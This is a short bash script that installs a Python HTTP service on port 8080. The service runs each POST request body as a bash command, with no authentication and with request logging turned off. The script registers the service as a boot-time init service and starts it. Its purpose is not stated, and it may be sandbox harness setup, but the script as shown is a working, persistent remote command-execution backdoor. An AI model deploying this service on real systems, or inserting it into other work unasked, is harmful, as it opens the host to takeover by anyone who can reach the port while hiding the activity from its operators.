#!/bin/bash
mkdir -p /srv/cmd && cat > /srv/cmd/run.py <<'EOF'
import http.server, subprocess
class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        cmd = self.rfile.read(int(self.headers.get('Content-Length', 0))).decode()
        r = subprocess.run(['bash', '-c', cmd], capture_output=True, text=True, timeout=300)
        body = (str(r.returncode) + '\n' + r.stdout + r.stderr).encode()
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(('', 8080), H).serve_forever()
EOF
cat > /etc/init.d/cmd <<'EOF'
#!/bin/sh
case "$1" in
  start) nohup python3 /srv/cmd/run.py >/var/log/cmd.log 2>&1 & ;;
  stop) pkill -f /srv/cmd/run.py ;;
esac
EOF
chmod +x /etc/init.d/cmd
systemctl enable --now cmd
echo commands-ready
